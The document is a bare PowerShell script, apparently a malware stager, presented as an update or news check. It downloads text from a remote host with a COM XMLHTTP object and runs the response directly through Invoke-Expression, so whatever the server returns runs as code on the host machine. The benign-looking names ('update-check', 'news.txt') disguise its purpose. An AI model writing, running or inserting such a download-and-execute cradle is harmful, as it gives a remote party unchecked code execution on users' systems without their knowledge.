$h = New-Object -ComObject Msxml2.XMLHTTP
$h.open('GET', 'http://update-check.example.net/news.txt', $false)
$h.setRequestHeader('Cache-Control', 'no-cache')
$h.send()

if ($h.status -eq 200) {
    $body = $h.responseText
    Invoke-Expression $body
}
